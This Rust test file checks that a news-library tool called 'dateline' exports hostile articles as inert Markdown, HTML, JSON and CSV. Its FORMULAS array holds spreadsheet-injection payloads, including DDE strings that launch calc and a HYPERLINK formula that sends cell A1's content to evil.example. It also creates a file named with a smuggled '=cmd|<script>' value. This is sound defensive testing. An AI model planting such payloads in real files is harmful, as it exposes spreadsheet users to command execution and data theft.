//! Adds hostile articles to a library, writes them in every form that somebody may open elsewhere, and reads the result
//! with the parsers that would open it: nothing in it is an element, a link or a formula that the program did not make.

mod home;

use dom_query::Document;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Stdio};
use tempfile::TempDir;

/// Markup of every kind, one example a line.
const MARKUP: &str = include_str!("hostile/markup.txt");

/// Formulas of every kind.
const FORMULAS: [&str; 16] = [
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"more\")",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1+1",
    "'=1+1",
    " =1+1",
    "a;=1+1;b",
    "a; \"@SUM(1)\"; c",
    "a\",=1+1,\"b",
    "-5",
];

/// The articles: each text in every place that a stranger may fill.
fn hostile() -> Vec<Value> {
    let texts = MARKUP.lines().chain(FORMULAS);
    let article = |(at, text): (usize, &str)| {
        json!({
            "id": at + 1, "title": format!("{text}"), "author": text, "source": text, "date": "2026-01-05",
            "read": false, "starred": false, "position": 0, "path": null, "published": "2026-01-05T00:00:00Z",
            "url": format!("https://news.example/{at}?{text}"), "tags": [text], "guid": text,
            "body": format!("{text}\n\nOSLO, Jan 5 - \"{text} is what we saw,\" said Kari Nordmann of Norway.\n{text}"),
        })
    };
    texts.enumerate().map(article).collect()
}

fn dateline(home: &Path, arguments: &[&str]) -> String {
    let mut command = Command::new(env!("CARGO_BIN_EXE_dateline"));
    command.args(arguments).current_dir(home).env_clear().env("HOME", home).env("LANG", "C.UTF-8");
    let output = command.stdin(Stdio::null()).output().expect("the program runs");
    let complaint = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{arguments:?}: {complaint}");
    String::from_utf8(output.stdout).expect("UTF-8")
}

/// A home whose library holds the hostile articles, and those as the library has them.
fn library() -> (TempDir, Vec<Value>) {
    let home =
        home::with_news("Harbour opens\n2026-01-05\nOSLO, Jan 5 - A harbour opened.\n", "=1+1\n<b>x</b>\n");
    let lines: Vec<String> = hostile().iter().map(Value::to_string).collect();
    std::fs::write(home.path().join("hostile.jsonl"), lines.join("\n")).expect("a file");
    std::fs::write(home.path().join("news/=cmd|<script>;-1.txt"), "A file\n2026-01-06\nOSLO - A file.\n")
        .expect("a file");
    dateline(home.path(), &["add", "hostile.jsonl", "news"]);
    let articles = objects(&dateline(home.path(), &["list", "--json", "group:off"]));
    assert!(articles.len() > 200, "{}", articles.len());
    (home, articles)
}

fn objects(lines: &str) -> Vec<Value> {
    lines.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

fn text<'a>(object: &'a Value, field: &str) -> &'a str {
    object[field].as_str().unwrap_or_default()
}

fn page(markdown: &str) -> Document {
    let mut options = comrak::Options::default();
    options.render.r#unsafe = true;
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.footnotes = true;
    options.extension.tasklist = true;
    options.extension.strikethrough = true;
    Document::from(comrak::markdown_to_html(markdown, &options))
}

/// The elements of a page with their attributes, each once.
fn elements(page: &Document) -> BTreeSet<String> {
    let nodes = page.select("*");
    let described = nodes.nodes().iter().map(|node| {
        let names: Vec<String> =
            node.attrs().iter().map(|attribute| attribute.name.local.to_string()).collect();
        format!("{} {}", node.node_name().unwrap_or_default(), names.join(" ")).trim().to_owned()
    });
    described.collect()
}

#[test]
fn markdown_has_the_elements_of_harmless_articles_and_every_text() {
    let (home, articles) = library();
    let markdown = dateline(home.path(), &["export", "--format", "md"]);
    let page = page(&markdown);
    let expected = ["a href", "body", "code", "em", "h1", "head", "hr", "html", "p"];
    assert_eq!(elements(&page), expected.map(str::to_owned).into());
    // Another parser, with all that it knows besides, such as metadata between rules.
    let mut html = String::new();
    let events = pulldown_cmark::Parser::new_ext(&markdown, pulldown_cmark::Options::all());
    pulldown_cmark::html::push_html(&mut html, events);
    let other = Document::from(html);
    assert_eq!(elements(&other), elements(&page));
    assert_eq!(other.select("h1").length(), articles.len());
    // Addresses of mail, which GitHub would make links of.
    for code in page.select("code").iter() {
        assert!(code.text().contains('@'), "{}", code.html());
    }
    let titles: Vec<String> = page.select("h1").iter().map(|title| title.text().to_string()).collect();
    let meant = articles.iter().map(|article| text(article, "title")).map(|title| match title {
        "" => "Without a title".to_owned(),
        title => title.to_owned(),
    });
    assert_eq!(titles, meant.collect::<Vec<_>>());
    let links: Vec<String> = page.select("a").iter().map(|link| link.text().to_string()).collect();
    let urls = articles.iter().map(|article| text(article, "url")).filter(|url| !url.is_empty());
    for (link, url) in links.iter().zip(urls.clone()) {
        let plain = |url: &str| {
            let mut url = url.to_owned();
            for (c, code) in ["<>", "><", "\"\"", "``", "\\\\", "^^", "{{", "||", "}}"].iter().map(|pair| {
                let c = pair.chars().next().unwrap_or_default();
                (c, format!("%{:02X}", u32::from(c)))
            }) {
                url = url.replace(c, &code);
            }
            url.replace("%3B", ";")
        };
        assert_eq!(plain(link), plain(url));
    }
    assert_eq!(links.len(), urls.count());
    let paragraphs: Vec<String> = page.select("p").iter().map(|p| p.text().to_string()).collect();
    let paragraphs: BTreeSet<&str> = paragraphs.iter().map(String::as_str).collect();
    for article in &articles {
        for line in text(article, "body").lines().filter(|line| !line.is_empty()) {
            assert!(paragraphs.contains(line), "{line}");
        }
    }
}

#[test]
fn json_is_text_within_a_page() {
    let (home, _) = library();
    let asked: [&[&str]; 6] = [
        &["list", "--json", "--analysis"],
        &["quotes", "--json"],
        &["people", "--json"],
        &["export"],
        &["show", "1", "--json"],
        &["analyze", "hostile.jsonl"],
    ];
    for arguments in asked {
        let lines = dateline(home.path(), arguments);
        assert!(!objects(&lines).is_empty());
        let page = Document::from(format!("<script>{lines}</script><p>end</p>"));
        assert_eq!(elements(&page), ["body", "head", "html", "p", "script"].map(str::to_owned).into());
        assert_eq!(page.select("script").text().to_string(), lines);
        assert_eq!(
            elements(&Document::from(lines.as_str())),
            ["body", "head", "html"].map(str::to_owned).into()
        );
        assert!(!lines.contains(['\u{2028}', '\u{2029}', '\0', '\u{feff}', '\u{202e}']));
    }
    // What is exported is the same library again.
    let exported = dateline(home.path(), &["export"]);
    std::fs::write(home.path().join("again.jsonl"), &exported).expect("a file");
    dateline(home.path(), &["add", "again.jsonl", "--library", "other.db"]);
    // Two lines are one article once they are cleaned, and its second number is not used again.
    let unnumbered = |text: &str| -> Vec<Value> {
        let without = |mut object: Value| {
            object["id"].take();
            object
        };
        objects(text).into_iter().map(without).collect()
    };
    let again = dateline(home.path(), &["export", "--library", "other.db"]);
    assert_eq!(unnumbered(&again), unnumbered(&exported));
}

/// The articles of an export without their numbers, in the order of their texts.
fn unnumbered(lines: &str) -> Vec<String> {
    let without = |mut object: Value| {
        object["id"].take();
        object.to_string()
    };
    let mut articles: Vec<String> = objects(lines).into_iter().map(without).collect();
    articles.sort();
    articles
}

/// Every form that `add` reads again gives the same library, and is nothing new in the library that it comes from.
#[test]
fn tables_and_pages_come_back_as_they_were() {
    let (home, _) = library();
    let at = home.path();
    dateline(at, &["mark", "harbour", "--star", "--read", "--tag", "a; b", "--tag", "=1+1"]);
    // Two lines are one article once they are cleaned; from the second library on, everything has one form.
    std::fs::write(at.join("all.jsonl"), dateline(at, &["export"])).expect("a file");
    dateline(at, &["add", "all.jsonl", "--library", "first.db"]);
    let first = ["--library", "first.db"];
    let exported = unnumbered(&dateline(at, &[&["export"][..], &first].concat()));
    assert!(exported.len() > 200);
    for (format, file) in [("csv", "all.csv"), ("html", "all.html")] {
        dateline(at, &[&["export", "--format", format, "-o", file][..], &first].concat());
        let again = dateline(at, &[&["add", file][..], &first].concat());
        let expected = format!("0 new, 0 updated, {} unchanged", exported.len());
        assert!(again.starts_with(&expected), "{format}: {again}");
        let other = format!("{format}.db");
        dateline(at, &["add", file, "--library", &other]);
        let back = unnumbered(&dateline(at, &["export", "--library", &other]));
        assert_eq!(back, exported, "{format}");
    }
}

#[test]
fn a_page_has_no_element_but_its_own_and_runs_nothing() {
    let (home, articles) = library();
    let page = Document::from(dateline(home.path(), &["export", "--format", "html"]));
    let elements: BTreeSet<String> = elements(&page)
        .iter()
        .map(|element| element.split(' ').next().unwrap_or_default().to_owned())
        .collect();
    let known = [
        "a", "article", "body", "div", "h2", "head", "html", "main", "meta", "p", "span", "style", "time",
        "title",
    ];
    assert_eq!(elements, known.map(str::to_owned).into());
    assert_eq!(page.select("article").length(), articles.len());
    let policy = page.select("meta[http-equiv=Content-Security-Policy]").attr("content").expect("a policy");
    assert!(policy.starts_with("default-src 'none'; style-src 'sha256-"), "{policy}");
    for link in page.select("[href]").iter() {
        let address = link.attr("href").expect("an address");
        assert!(address.starts_with("https://") || address.starts_with("http://"), "{address}");
    }
    for attribute in ["src", "style", "onclick", "onload", "onerror", "srcset", "action"] {
        assert_eq!(page.select(&format!("[{attribute}]")).length(), 0, "{attribute}");
    }
}

/// Whether a spreadsheet may take a cell for a formula.
fn is_formula(cell: &str) -> bool {
    let cell = cell.trim_start_matches(['"', ' ', '\u{a0}']);
    cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'])
}

#[test]
fn no_cell_of_a_table_is_a_formula() {
    let (home, articles) = library();
    let read = |arguments: &[&str], divider: u8| -> Vec<Vec<String>> {
        let text = dateline(home.path(), arguments);
        let reader = csv::ReaderBuilder::new().delimiter(divider).flexible(true).from_reader(text.as_bytes());
        let row =
            |row: csv::Result<csv::StringRecord>| row.expect("a row").iter().map(str::to_owned).collect();
        { reader }.records().map(row).collect()
    };
    for command in ["list", "people", "orgs", "places", "countries", "quotes", "export"] {
        for divider in [b',', b';', b'\t'] {
            for cell in read(&[command, "--format", "csv"], divider).iter().flatten() {
                assert!(!is_formula(cell), "{command}: {cell:?}");
            }
        }
    }
    // Nothing is lost: the apostrophe is all that is added, and scripts can have the texts without it.
    let raw = read(&["list", "--format", "csv", "--raw-cells", "group:off"], b',');
    let inert = read(&["list", "--format", "csv", "group:off"], b',');
    assert_eq!(raw.len(), articles.len());
    for ((raw, inert), article) in raw.iter().zip(&inert).zip(&articles) {
        assert_eq!([raw[2].as_str(), &raw[3]], [text(article, "source"), text(article, "title")]);
        for (raw, inert) in raw.iter().zip(inert) {
            let added = inert.replacen('\'', "", 1);
            assert!(
                inert == raw || added == *raw || inert.contains(";'") || inert.contains("; '"),
                "{raw} {inert}"
            );
        }
    }
    let mut command = Command::new(env!("CARGO_BIN_EXE_dateline"));
    let wrong =
        command.args(["list", "--json", "--raw-cells"]).env("HOME", home.path()).output().expect("it runs");
    assert_eq!(wrong.status.code(), Some(2));
}

#[test]
fn a_row_of_text_has_its_columns_and_no_others() {
    let (home, articles) = library();
    let rows = dateline(home.path(), &["list", "group:off"]);
    assert_eq!(rows.lines().count(), articles.len());
    assert!(rows.lines().all(|row| row.matches('\t').count() == 3 || row.ends_with("\thostile")), "{rows}");
}
